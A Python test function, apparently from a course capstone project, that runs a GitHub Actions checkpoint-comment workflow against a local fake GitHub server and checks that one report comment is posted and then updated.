def test_the_comment_workflow_posts_a_real_report_once(tmp_path, cc_config, pre_commit_home, bare_python):
    """checkpoint-comment.yml's steps, run as GitHub runs them, post one comment from a checkpoint-report
    artifact holding a real report (`capstone check`) and the PR's facts (`ci pr-info`), gathered with the
    course workflow's own upload paths. (The course's grading jobs run end to end in test_grading_e2e.py.)"""
    repo = bake(tmp_path / "team", cc_config, scaffold="reference", dataset="churn")
    run(repo, "make", "setup")  # the kit, and the uv.lock the default branch would hold
    head = run(repo, "git", "rev-parse", "HEAD").stdout.strip()
    checked = run(repo, ".venv/bin/capstone", "check", "1", check=False)
    assert checked.returncode in (0, 1), checked.stdout[-3000:] + checked.stderr[-3000:]
    report = json.loads((repo / "reports" / "checkpoint-1.json").read_text())
    assert report["stage"] == 1 and report["passed"] == (checked.returncode == 0)

    # The grading job's output folder ($RUNNER_TEMP/graded): the reports, and the PR's facts from pr-info.
    runner_temp = tmp_path / "runner"
    graded = runner_temp / "graded"
    graded.mkdir(parents=True)
    for path in (repo / "reports").glob("checkpoint-1.*"):
        shutil.copy(path, graded / path.name)
    pr_env = {**team_env(repo), "PR_NUMBER": "7", "HEAD_SHA": head, "STAGE": "1"}
    info = subprocess.run(
        [".venv/bin/python", "-m", "capstone.checkpoints.ci", "pr-info", "--out", str(graded / "checkpoint-pr.json")],
        cwd=repo,
        env=pr_env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert info.returncode == 0, info.stdout + info.stderr
    assert json.loads((graded / "checkpoint-pr.json").read_text()) == {"number": 7, "head_sha": head, "stage": 1}

    # upload-artifact (checkpoint-report) with the course workflow's own paths, then download-artifact.
    course = yaml.safe_load(COURSE_WORKFLOW.read_text())
    [upload] = [
        step
        for step in course["jobs"]["grade"]["steps"]
        if step.get("uses", "").startswith("actions/upload-artifact@") and step["with"]["name"] == "checkpoint-report"
    ]
    artifact = tmp_path / "checkpoint-report"  # the comment job's download path, under its runner.temp
    artifact.mkdir()
    for pattern in upload["with"]["path"].splitlines():
        relative = resolve(pattern, {"runner.temp": "."}).removeprefix("./")  # ${{ runner.temp }}/graded/...
        for path in runner_temp.glob(relative):
            shutil.copy(path, artifact / path.name)
    uploaded = sorted(path.name for path in artifact.iterdir())
    assert uploaded == ["checkpoint-1.json", "checkpoint-1.md", "checkpoint-pr.json"]

    github_files = tmp_path / "github"
    github_files.mkdir()
    # The runner's `python` before the comment job's install: a bare one. Its ci.py step runs .venv/bin/python.
    python_bin = tmp_path / "runner-bin"
    python_bin.mkdir()
    (python_bin / "python").symlink_to(bare_python)
    fake = FakeGitHub({7: head})
    server, url = serve_fake(fake)
    try:
        comment_workflow = yaml.safe_load((repo / ".github" / "workflows" / "checkpoint-comment.yml").read_text())
        event = github_files / "event.json"
        event.write_text(json.dumps({"workflow_run": workflow_run(head_sha=head, conclusion="success")}))
        known_comment = {"github.token": "token-abc", "runner.temp": str(tmp_path)}
        comment_env = {
            "PATH": f"{python_bin}{os.pathsep}{team_env(repo)['PATH']}",
            "GITHUB_EVENT_PATH": str(event),
            "GITHUB_REPOSITORY": REPOSITORY,
            "GITHUB_API_URL": url,
        }
        for _ in range(2):
            results = run_steps(comment_workflow, repo, known_comment, comment_env, github_files)
            assert [code for _, code in results] == [0, 0], results
        [comment] = fake.stored.setdefault(7, [])
        mark = "✅" if report["passed"] else "❌"
        heading = f"<!-- capstone-checkpoint -->\n## {mark} Checkpoint 1"
        assert comment["body"].startswith(heading), comment["body"][:300]
        assert fake.tokens == {"Bearer token-abc"}
        assert [method for method, _ in fake.calls if method != "GET"] == ["POST", "PATCH"]
    finally:
        server.shutdown()
